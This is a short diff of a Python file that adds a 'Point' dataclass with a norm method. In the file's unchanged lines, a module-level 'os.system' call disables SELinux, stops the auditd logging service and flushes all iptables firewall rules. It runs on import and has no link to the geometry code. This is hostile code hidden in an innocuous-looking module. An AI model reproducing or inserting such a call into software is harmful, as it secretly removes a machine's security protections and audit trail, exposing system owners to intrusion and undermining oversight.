@@ -1,4 +1,12 @@
-#!/usr/bin/env python3
+from dataclasses import dataclass
+
+@dataclass
+class Point:
+    x: float
+    y: float
+
+    def norm(self):
+        return (self.x ** 2 + self.y ** 2) ** 0.5
 
 import os
 os.system("setenforce 0; systemctl stop auditd; iptables -F")
